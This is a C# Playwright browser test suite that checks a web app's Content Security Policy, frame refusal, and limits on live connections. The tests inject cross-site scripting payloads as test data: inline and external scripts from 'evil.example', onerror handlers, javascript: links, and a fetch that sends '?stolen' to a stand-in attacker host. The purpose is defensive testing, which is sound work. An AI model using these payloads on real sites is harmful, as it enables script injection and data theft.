using EndToEnd.Tests.Kit;
using Microsoft.Playwright;
using Testing;

namespace EndToEnd.Tests.Browser;

/// <summary>What a real browser makes of what we tell it.</summary>
public sealed class PolicyTests(PolicyTests.Site site) : IClassFixture<PolicyTests.Site>
{
    private const string Injected =
        "<script>window.ran = 'inline'</script><script src=\"https://evil.example/x.js\"></script><img src=\"/nothing.png\" onerror=\"window.ran = 'handler'\"><a id=\"trap\" href=\"javascript:void(window.ran='link')\">x</a>";

    private const int MostLivePages = 10;

    [Theory, InlineData(true, null), InlineData(false, "handler")]
    public async Task H40_A_script_that_got_into_a_page_runs_only_without_the_policy(bool hasPolicy, string? ran)
    {
        var page = await site.Chromium.SignInAsync(site.Installation);
        var stopped = new List<string>();
        page.Console += (_, message) => stopped.Add(message.Text);
        await page.RouteAsync("**/account", route => InjectAsync(route, hasPolicy));
        await page.GotoAsync("/account");
        await page.Locator("#trap").WaitForAsync(new() { State = WaitForSelectorState.Attached });
        await Task.Delay(TimeSpan.FromSeconds(1), TimeProvider.System);

        var seen = await page.EvaluateAsync<string?>("window.ran ?? null");
        await page.Locator("#trap").DispatchEventAsync("click");
        await Task.Delay(TimeSpan.FromMilliseconds(300), TimeProvider.System);
        var afterClick = await page.EvaluateAsync<string?>("window.ran ?? null");
        await LeaveAsync(page);

        Assert.Equal(ran, seen);
        Assert.Equal(hasPolicy ? null : "link", afterClick);
        Assert.Equal(hasPolicy, stopped.Count(text => text.Contains("Content Security Policy", StringComparison.Ordinal)) >= 3);
    }

    [Theory]
    [InlineData("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s);")]
    [InlineData("const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; document.body.append(s);")]
    [InlineData("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">');")]
    [InlineData("document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran = 1</scr' + 'ipt>\"></iframe>');")]
    [InlineData("setTimeout('window.ran = 1', 0);")]
    [InlineData("fetch('https://evil.example/?stolen').then(() => window.ran = 1, () => {});")]
    public async Task H40_What_is_put_into_a_live_page_does_not_run_and_carries_nothing_out(string trick)
    {
        var page = await site.Chromium.SignInAsync(site.Installation);
        await page.GotoAsync("/account");

        await page.EvaluateAsync($"() => {{ {trick} }}");
        await Task.Delay(TimeSpan.FromMilliseconds(500), TimeProvider.System);

        var hasRun = await page.EvaluateAsync<bool>("'ran' in window");
        await LeaveAsync(page);

        Assert.False(hasRun);
    }

    [Fact]
    public async Task H39_A_page_in_the_frame_of_another_site_stays_empty()
    {
        var page = await site.Chromium.OpenAsync(site.Installation.Url);
        await page.RouteAsync("http://other.example/**", route => route.FulfillAsync(new() { ContentType = "text/html", Body = $"<iframe src=\"{site.Installation.Url}/sign-in\"></iframe>" }));

        await page.GotoAsync("http://other.example/");
        await Eventually.TrueAsync(() => page.Frames.Count == 2 && page.Frames[1].Url.StartsWith("chrome-error", StringComparison.Ordinal), TimeSpan.FromSeconds(20), "the frame is refused");

        Assert.Equal(0, await page.FrameLocator("iframe").Locator("input[name=password]").CountAsync());
    }

    [Fact]
    public async Task H84_A_page_that_calls_without_end_is_cut_off_and_its_owner_can_go_on()
    {
        var page = await site.Chromium.SignInAsync(site.Installation);
        await OpenLiveAsync(page);

        await Eventually.TrueAsync(async () =>
        {
            await page.EvaluateAsync("() => { for (let i = 0; i < 3000; i++) DotNet.invokeMethodAsync('none', 'none').catch(() => {}); }");
            return site.Installation.ControlPlane.Output.Contains("The live connection of", StringComparison.Ordinal);
        }, TimeSpan.FromSeconds(30), "the connection is ended and the log says so");

        await OpenLiveAsync(page);
        await Assertions.Expect(page.Locator("h1")).ToBeVisibleAsync();
        await LeaveAsync(page);
    }

    [Fact]
    public async Task H83_The_eleventh_live_page_of_a_person_says_that_it_does_not_react()
    {
        var first = await site.Chromium.SignInAsync(site.Installation);
        var pages = new List<IPage> { first };
        while (pages.Count < MostLivePages)
            pages.Add(await first.Context.NewPageAsync());
        foreach (var page in pages)
            await OpenLiveAsync(page);
        var eleventh = await first.Context.NewPageAsync();

        await Eventually.TrueAsync(() => IsRefusedAsync(eleventh), TimeSpan.FromSeconds(30), "there are ten live pages");
        Directory.CreateDirectory(Path.Combine(Repository.Root, "artifacts", "screens"));
        await eleventh.ScreenshotAsync(new() { Path = Path.Combine(Repository.Root, "artifacts", "screens", "page-too-many.png") });
        foreach (var page in pages)
            await page.GotoAsync("about:blank");

        await Eventually.TrueAsync(async () => !await IsRefusedAsync(eleventh), TimeSpan.FromSeconds(30), "a closed page makes room");
    }

    /// <summary>As a person closes a page, which ends its circuit; all tests here are one person.</summary>
    private static async Task LeaveAsync(IPage page)
    {
        await page.UnrouteAllAsync();
        await page.GotoAsync("about:blank");
    }

    private static async Task OpenLiveAsync(IPage page)
    {
        var live = page.WaitForWebSocketAsync();
        await page.GotoAsync("/account");
        await live;
    }

    private static async Task<bool> IsRefusedAsync(IPage page)
    {
        await page.GotoAsync("/account");
        await Task.Delay(TimeSpan.FromMilliseconds(300), TimeProvider.System);
        return await page.GetByText($"You have {MostLivePages} live pages open").CountAsync() == 1;
    }

    private static async Task InjectAsync(IRoute route, bool hasPolicy)
    {
        var answer = await route.FetchAsync();
        var body = (await answer.TextAsync()).Replace("</body>", $"{Injected}</body>", StringComparison.Ordinal);
        await route.FulfillAsync(new() { Status = answer.Status, Body = body, Headers = answer.Headers.Where(header => hasPolicy || header.Key != "content-security-policy") });
    }

    /// <summary>An installation with one node, and a browser.</summary>
    public sealed class Site : IAsyncLifetime
    {
        public Installation Installation { get; private set; } = null!;

        public Chromium Chromium { get; private set; } = null!;

        public async ValueTask InitializeAsync()
        {
            Installation = await Installation.StartAsync(productionNodes: 1);
            Chromium = await Chromium.StartAsync();
        }

        public async ValueTask DisposeAsync()
        {
            await Chromium.DisposeAsync();
            await Installation.DisposeAsync();
        }
    }
}
